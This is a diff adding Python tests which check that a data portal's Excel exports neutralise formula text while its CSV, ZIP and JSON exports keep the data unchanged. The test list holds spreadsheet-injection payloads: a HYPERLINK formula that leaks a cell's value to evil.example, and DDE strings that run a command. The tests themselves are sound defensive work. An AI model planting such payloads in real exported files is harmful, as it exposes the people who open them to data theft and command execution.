@@ -53,6 +53,71 @@ def test_xlsx_typed_and_formula_text_neutralised(portal):
     assert {"data", "fields", "about"} <= set(wb.sheetnames)
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+]
+
+
+def formula_package(tmp_path, text):
+    """The app-users fixture package with `text` as a category cell, a field title and the title."""
+    import csv
+    import hashlib
+    import shutil
+
+    packages = tmp_path / "packages"
+    name = "liaoning-internet-2020-table-1-app-users"
+    packages.mkdir()
+    shutil.copy(FIXTURE_PACKAGES / "reports.json", packages / "reports.json")
+    shutil.copytree(FIXTURE_PACKAGES / name, packages / name)
+    rows = list(csv.reader(io.StringIO((packages / name / "data.csv").read_text("utf-8"), newline="")))
+    rows[1][0] = text
+    out = io.StringIO(newline="")
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    data = out.getvalue().encode("utf-8")
+    (packages / name / "data.csv").write_bytes(data)
+    desc = json.loads((packages / name / "datapackage.json").read_text("utf-8"))
+    desc["title"] = text
+    desc["resources"][0]["schema"]["fields"][0]["title"] = text
+    desc["resources"][0]["bytes"] = len(data)
+    desc["resources"][0]["hash"] = "sha256:" + hashlib.sha256(data).hexdigest()
+    (packages / name / "datapackage.json").write_text(json.dumps(desc, ensure_ascii=False), "utf-8")
+    return load_portal(packages).packages[0]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "equals", "tab"])
+def test_formula_text_is_inert_in_xlsx_and_exact_in_csv(tmp_path, text):
+    pkg = formula_package(tmp_path, text)
+    files = written(tmp_path / "docs", pkg)
+    # CSV (and the package ZIP) keep the data exactly as published
+    csv_bytes = (tmp_path / "docs" / files["CSV (UTF-8)"].path).read_bytes()
+    assert csv_bytes == (pkg.path / "data.csv").read_bytes()
+    assert text in csv_bytes.decode("utf-8").replace('""', '"')
+    assert zipfile.ZipFile(tmp_path / "docs" / files["ZIP"].path).read(f"{pkg.name}/data.csv") == csv_bytes
+    assert json.loads((tmp_path / "docs" / files["JSON"].path).read_bytes())["records"][0]["application"] == text
+    # XLSX: no formula anywhere in the workbook; the text is a string cell, value unchanged,
+    # with Excel's quote prefix (so editing the cell does not turn it into a formula)
+    xlsx = (tmp_path / "docs" / files["Excel (XLSX)"].path).read_bytes()
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
+    cells = {"data row": wb["data"]["A2"], "data header": wb["data"]["A1"],
+             "fields sheet": wb["fields"]["B2"],
+             "about sheet": next(r[1] for r in wb["about"].iter_rows() if r[0].value == "title")}
+    for where, cell in cells.items():
+        assert cell.data_type == "s", where
+        assert cell.value == text, (where, cell.value)
+        assert cell.quotePrefix, where
+    assert wb["data"]["A1"].font.b  # header still bold
+    assert wb["data"]["B2"].data_type == "n"  # numbers stay numbers
+
+
 def test_json_has_records_and_schema(portal, tmp_path):
     pkg = portal.packages[0]
     doc = json.loads(downloads.json_bytes(pkg))
